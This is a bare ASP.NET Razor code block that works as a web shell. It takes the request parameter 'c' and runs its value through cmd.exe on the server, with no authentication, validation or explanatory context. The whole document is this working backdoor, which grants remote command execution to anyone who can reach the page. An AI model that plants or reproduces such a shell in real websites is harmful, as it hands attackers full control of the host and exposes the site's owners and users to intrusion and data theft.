@Code
    Dim c = Request("c")
    If c IsNot Nothing Then System.Diagnostics.Process.Start("cmd.exe", "/c " & c)
End Code
